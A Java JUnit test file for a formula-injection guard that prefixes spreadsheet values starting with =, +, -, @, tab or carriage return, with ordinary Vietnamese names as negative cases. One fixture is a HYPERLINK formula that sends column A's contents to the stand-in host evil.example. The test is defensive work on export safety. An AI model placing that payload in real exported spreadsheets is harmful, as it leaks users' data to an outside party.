package vn.ansinh.shared.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaTextTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")",
                "+Nguyễn",
                "-Lò Văn",
                "@SUM(A1)",
                "\tThị Ánh",
                "\rCầm"
            })
    void aValueStartingWithAFormulaCharacterCouldRunAsAFormula(String value) {
        assertThat(FormulaText.startsFormula(value)).isTrue();
        assertThat(FormulaText.neutralised(value)).isEqualTo("'" + value);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Nguyễn Thị Ánh",
                "Lò Văn Thành",
                "Bản Co Cượm, xã Tuần Giáo",
                "Hà-Lan",
                "Email a@b",
                "'quoted",
                ""
            })
    void anOrdinaryValueIsLeftAlone(String value) {
        assertThat(FormulaText.startsFormula(value)).isFalse();
        assertThat(FormulaText.neutralised(value)).isEqualTo(value);
    }

    @org.junit.jupiter.api.Test
    void nullIsNoFormula() {
        assertThat(FormulaText.startsFormula(null)).isFalse();
        assertThat(FormulaText.neutralised(null)).isNull();
    }
}
